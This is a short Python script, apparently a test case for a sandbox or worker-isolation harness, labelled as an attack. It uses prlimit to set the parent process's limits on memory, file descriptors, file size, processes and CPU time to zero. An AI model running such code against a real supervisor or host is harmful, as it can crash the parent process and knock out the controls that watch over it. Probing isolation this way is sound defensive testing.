# /// attack
# tries = "takes memory, descriptors, file sizes and processor time from the worker's parent by prlimit"
# ///
import os
import resource
import time

for name in ("NOFILE", "FSIZE", "AS", "DATA", "STACK", "NPROC", "MEMLOCK", "CPU"):
    try:
        resource.prlimit(os.getppid(), getattr(resource, "RLIMIT_" + name), (0, 0))
        print("took", name)
    except OSError:
        pass
time.sleep(0.5)
raise SystemExit
